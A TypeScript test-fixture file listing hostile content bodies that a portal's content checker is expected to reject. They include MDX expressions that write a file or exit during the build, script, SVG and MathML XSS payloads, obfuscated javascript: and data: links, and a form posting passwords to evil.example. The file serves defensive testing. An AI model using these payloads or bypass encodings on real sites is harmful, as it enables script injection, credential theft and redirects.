/**
 * Hostile bodies: MDX that would run code while the site is built, script and markup that would
 * reach readers, and links with schemes a browser would run — each hidden the ways a line-by-line
 * reading missed (over several lines, behind an escaped backtick, inside a component, with
 * entities). Judged on the parser's tree (src/lib/content-check/body-safety.ts); a few legitimate
 * bodies that merely show such text are accepted and published as text.
 */
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fixtureContent } from './content-dir.ts';
import { samplePlace } from './sample-place.ts';
import type { HostileCase } from './types.ts';

const PRESS = 'fixture/press/vi/thong-cao.md';
const PLACE = 'fixture/places/vi/ho.mdx';
/** The press release's body starts on line 9 of the file, a place's on line 15. */
const PRESS_BODY = 9;
const PLACE_BODY = 15;
/** `(nội dung, dòng N)` (the body, line N) for line `n` of a body starting on file line `start`. */
const line = (start: number, n: number) => `(nội dung, dòng ${start + n - 1})`;

/** A 1×1 PNG, so a place's cover is a real image whatever the file checks look at. */
const PNG = Uint8Array.from(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGM4kWIEAANWAV/oF4RSAAAAAElFTkSuQmCC', 'base64'),
);

/** A valid MDX place with `body` (its first line is file line 15). */
const place = (body: string, path = PLACE) => ({
  [path]: samplePlace({ body }),
  'fixture/images/ho.png': PNG,
});

const pressText = readFileSync(join(fixtureContent, PRESS), 'utf8');
/** The fixture's press release with `body` in place of its text (its first line is file line 9). */
const press = (body: string, path = PRESS) => {
  const text = pressText.replace('Nội dung thông cáo.', body);
  if (text === pressText) throw new Error(`${PRESS} no longer holds "Nội dung thông cáo."`);
  return { [path]: text };
};

/** Where the MDX that tries to write a file would write it (tests/build/body-safety-build.test.ts looks there). */
export const PWNED_FILE = join(tmpdir(), 'portal-hostile-mdx-wrote-this');

const EXPRESSION = /biểu thức \{…\} \(mã chạy khi dựng trang/;
const ESM = /câu lệnh import\/export \(mã chương trình\) — nội dung không được nhập hay xuất mã/;
const TAG = (tag: string) => new RegExp(`thẻ HTML <${tag}> không được phép trong nội dung — hãy viết bằng Markdown`);
const FOREIGN = (tag: string) => new RegExp(`thẻ <${tag}> \\(hình vẽ SVG hoặc công thức MathML\\) không được phép`);
const HANDLER = (name: string, tag: string) =>
  new RegExp(`thuộc tính ${name}= trong <${tag}> \\(mã chạy khi người đọc bấm`);
const SCHEME = (scheme: string) => new RegExp(`"${scheme}:", loại địa chỉ không được phép — hãy viết https://`);

const code: HostileCase[] = [
  {
    name: 'an MDX expression over three lines writes a file while the site is built',
    class: 'code at build time',
    files: place(
      `Hồ nước mẫu.\n\n{\nprocess.getBuiltinModule("fs").writeFileSync(${JSON.stringify(PWNED_FILE)}, "pwned")\n}`,
    ),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 3), message: EXPRESSION } },
    alsoBuild: true,
  },
  {
    name: 'an MDX expression over two lines inside <Aside>',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Aside>\nGhi chú {process\n  .exit(1)}\n</Aside>'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 4), message: EXPRESSION } },
    alsoBuild: true,
  },
  {
    name: 'an expression in a <Gallery> prop spread over several lines',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Gallery\n  title={\n    process.exit(1)\n  }\n/>'),
    outcome: {
      refused: {
        file: PLACE,
        field: line(PLACE_BODY, 3),
        message: /thuộc tính title=\{…\} trong <Gallery> là biểu thức \(mã chạy khi dựng trang\)/,
      },
    },
    alsoBuild: true,
  },
  {
    name: 'a spread attribute on <Figure>',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Figure {...globalThis.process.env} />'),
    outcome: {
      refused: {
        file: PLACE,
        field: line(PLACE_BODY, 3),
        message: /thuộc tính \{\.\.\.globalThis\.process\.env\} trong <Figure> \(mã chạy khi dựng trang\)/,
      },
    },
  },
  {
    name: 'an MDX "export const" runs when the page module loads',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\nexport const x = process.exit(1)'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 3), message: ESM } },
  },
  {
    name: 'an MDX import of a module',
    class: 'code at build time',
    files: place('import fs from "node:fs"\n\nHồ nước mẫu.'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 1), message: ESM } },
  },
  {
    name: 'a JSX comment {/* … */} (an expression all the same)',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n{/* ghi chú cho biên tập viên */}'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 3), message: EXPRESSION } },
  },
  {
    name: 'an inline expression in the middle of a sentence',
    class: 'code at build time',
    files: place('Hồ nước mẫu rộng {globalThis.process.exit(1)} héc-ta.'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 1), message: EXPRESSION } },
  },
  {
    name: 'an expression as the value of <Figure n>',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Figure n={1} />'),
    outcome: {
      refused: { file: PLACE, field: line(PLACE_BODY, 3), message: /thuộc tính n=\{…\} trong <Figure> là biểu thức/ },
    },
  },
  {
    name: 'an expression in an attribute of allowed HTML',
    class: 'code at build time',
    files: place('Hồ nước mẫu <abbr title={process.exit(1)}>UBND</abbr>.'),
    outcome: {
      refused: { file: PLACE, field: line(PLACE_BODY, 1), message: /thuộc tính title=\{…\} trong <abbr> là biểu thức/ },
    },
  },
  {
    name: 'a component the page does not provide',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Map center="14,108" />'),
    outcome: {
      refused: {
        file: PLACE,
        field: line(PLACE_BODY, 3),
        message: /thành phần <Map> không được phép — chỉ dùng <Gallery \/>, <Figure n="…" \/> hoặc <Aside>…<\/Aside>/,
      },
    },
  },
  {
    name: 'a member component <Gallery.Item>',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Gallery.Item />'),
    outcome: {
      refused: { file: PLACE, field: line(PLACE_BODY, 3), message: /thành phần <Gallery\.Item> không được phép/ },
    },
  },
  {
    name: 'an unclosed component (MDX that does not parse)',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n<Aside>\n\nGhi chú chưa đóng.'),
    outcome: {
      refused: {
        file: PLACE,
        field: line(PLACE_BODY, 3),
        message: /thẻ <Aside> chưa đóng — hãy thêm <\/Aside> sau phần chữ bên trong/,
      },
    },
  },
];

const markup: HostileCase[] = [
  {
    name: '<script> hidden by an escaped backtick',
    class: 'script and markup',
    files: press('Xem \\`<script>alert(1)</script>\\` tại đây.'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: TAG('script') } },
  },
  {
    name: '<script> after a line of four spaces and three backticks',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n    ```\n<script>alert(1)</script>\n    ```'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 4), message: TAG('script') } },
  },
  {
    name: '<script> in MDX',
    class: 'script and markup',
    files: place('Hồ nước mẫu.\n\n<script>{"alert(1)"}</script>'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 3), message: TAG('script') } },
  },
  {
    name: '<iframe srcdoc> carries a page of its own',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('iframe') } },
  },
  {
    name: '<object> loads a document',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<object data="https://evil.example/x.html"></object>'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('object') } },
  },
  {
    name: '<embed> loads a document',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<embed src="https://evil.example/x.swf">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('embed') } },
  },
  {
    name: '<style> restyles the whole portal',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<style>body { display: none }</style>'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('style') } },
  },
  {
    name: '<link> pulls a stylesheet from elsewhere',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<link rel="stylesheet" href="https://evil.example/x.css">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('link') } },
  },
  {
    name: '<meta http-equiv="refresh"> (an open redirect from an official portal)',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('meta') } },
  },
  {
    name: '<base href> redirects every relative link',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<base href="https://evil.example/">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('base') } },
  },
  {
    name: '<form action> collects what readers type',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<form action="https://evil.example/collect">Mật khẩu</form>'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('form') } },
  },
  {
    name: '<input> asks readers for data',
    class: 'script and markup',
    files: press('Nhập mã số thuế: <input name="mst">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: TAG('input') } },
  },
  {
    name: '<svg><script> (script in foreign content)',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<svg><script>alert(1)</script></svg>'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: FOREIGN('svg') } },
  },
  {
    name: '<math> (foreign content that re-parses differently)',
    class: 'script and markup',
    files: press(
      'Nội dung thông cáo.\n\n<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: FOREIGN('math') } },
  },
  {
    name: '<img src=x onerror> with the handler on the second line of the tag',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<img src="x"\n  onerror="alert(1)">'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 3), message: TAG('img') } },
  },
  {
    name: 'an event handler on the second line of an allowed tag',
    class: 'script and markup',
    files: press('Nội dung thông cáo <abbr title="Ủy ban nhân dân"\n  onmouseover="alert(1)">UBND</abbr>.'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 2), message: HANDLER('onmouseover', 'abbr') } },
  },
  {
    name: 'an event handler in MDX',
    class: 'script and markup',
    files: place('Hồ nước <b onClick="alert(1)">đẹp</b>.'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 1), message: HANDLER('onClick', 'b') } },
  },
  {
    name: 'an HTML comment that hides a script from a reading of the text',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<!-- <script>alert(1)</script> -->'),
    outcome: {
      refused: { file: PRESS, field: line(PRESS_BODY, 3), message: /chú thích HTML <!-- … --> — hãy xóa nó/ },
    },
  },
  {
    name: 'a tag left open swallows the rest of the page',
    class: 'script and markup',
    files: press('Nội dung thông cáo.\n\n<div title="\n\n"><img src=x onerror=alert(1)>'),
    outcome: {
      refused: {
        file: PRESS,
        field: line(PRESS_BODY, 3),
        message: /thẻ HTML hoặc chú thích chưa đóng \(thiếu ">" hoặc "-->"\)/,
      },
    },
  },
  {
    name: 'an attribute outside the allowlist (target opens a window the page can control)',
    class: 'script and markup',
    files: press('Xem <a href="https://evil.example/" target="_blank">trang này</a>.'),
    outcome: {
      refused: {
        file: PRESS,
        field: line(PRESS_BODY, 1),
        message: /thuộc tính target trong <a> không được phép — hãy xóa nó/,
      },
    },
  },
];

const urls: HostileCase[] = [
  {
    name: 'a "javascript:" autolink <javascript:…>',
    class: 'URL schemes',
    files: press('Xem <javascript:alert(document.domain)>.'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a "javascript:" link in angle brackets [x](<javascript:…>)',
    class: 'URL schemes',
    files: press('Xem [tại đây](<javascript:alert(1)>).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a "javascript:" reference definition',
    class: 'URL schemes',
    files: press('Xem [tại đây][muc].\n\n[muc]: javascript:alert(1)'),
    outcome: {
      refused: {
        file: PRESS,
        field: line(PRESS_BODY, 3),
        message: /định nghĩa liên kết \[muc\] "javascript:alert\(1\)": .*"javascript:", loại địa chỉ không được phép/,
      },
    },
  },
  {
    name: 'a "javascript:" link written with an entity (jav&#x61;script:)',
    class: 'URL schemes',
    files: press('Xem [tại đây](jav&#x61;script:alert(1)).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a "javascript:" href in raw HTML, with an entity',
    class: 'URL schemes',
    files: press('Xem <a href="jav&#x61;script&colon;alert(1)">tại đây</a>.'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a "javascript:" href in MDX',
    class: 'URL schemes',
    files: place('Xem <a href="javascript:alert(1)">tại đây</a>.'),
    outcome: { refused: { file: PLACE, field: line(PLACE_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'an upper- and lower-case JaVaScRiPt: link',
    class: 'URL schemes',
    files: press('Xem [tại đây](JaVaScRiPt:alert(1)).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a tab inside the scheme (java&#9;script:), which browsers drop',
    class: 'URL schemes',
    files: press('Xem [tại đây](java&#9;script:alert(1)).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('javascript') } },
  },
  {
    name: 'a "data:" link carries a page of its own',
    class: 'URL schemes',
    files: press('Xem [tại đây](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('data') } },
  },
  {
    name: 'a "data:" image',
    class: 'URL schemes',
    files: press('Nội dung thông cáo.\n\n![ảnh](data:image/svg+xml;base64,PHN2Zy8+)'),
    outcome: {
      refused: {
        file: PRESS,
        field: line(PRESS_BODY, 3),
        message: /ảnh "data:image\/svg\+xml;base64,PHN2Zy8\+": .*"data:", loại địa chỉ không được phép/,
      },
    },
  },
  {
    name: 'a "vbscript:" link',
    class: 'URL schemes',
    files: press('Xem [tại đây](vbscript:msgbox(1)).'),
    outcome: { refused: { file: PRESS, field: line(PRESS_BODY, 1), message: SCHEME('vbscript') } },
  },
];

const accepted: HostileCase[] = [
  {
    name: 'a press release shows <script> as a code sample',
    class: 'script and markup',
    files: press('Đoạn mã `<script>alert(1)</script>` chỉ là ví dụ.', 'fixture/press/vi/vi-du-ma.md'),
    outcome: { accepted: { path: '/vi/press/vi-du-ma/', shows: '<script>alert(1)</script>' } },
  },
  {
    name: 'an MDX place shows {process.exit()} in a fenced code block',
    class: 'code at build time',
    files: place('Hồ nước mẫu.\n\n```js\n{process.exit()}\n```', 'fixture/places/vi/ho-ma.mdx'),
    outcome: { accepted: { path: '/vi/places/ho-ma/', shows: '{process.exit()}' } },
  },
  {
    name: 'a harmless <abbr title> explains an abbreviation',
    class: 'script and markup',
    files: press('Văn bản của <abbr title="Ủy ban nhân dân">UBND</abbr> tỉnh.', 'fixture/press/vi/viet-tat.md'),
    outcome: { accepted: { path: '/vi/press/viet-tat/', shows: 'UBND' } },
  },
  {
    name: 'a normal https link to another site',
    class: 'URL schemes',
    files: press('Xem [Cổng thông tin Chính phủ](https://chinhphu.vn/).', 'fixture/press/vi/lien-ket.md'),
    outcome: { accepted: { path: '/vi/press/lien-ket/', shows: 'Cổng thông tin Chính phủ' } },
  },
];

export const CASES: HostileCase[] = [...code, ...markup, ...urls, ...accepted];
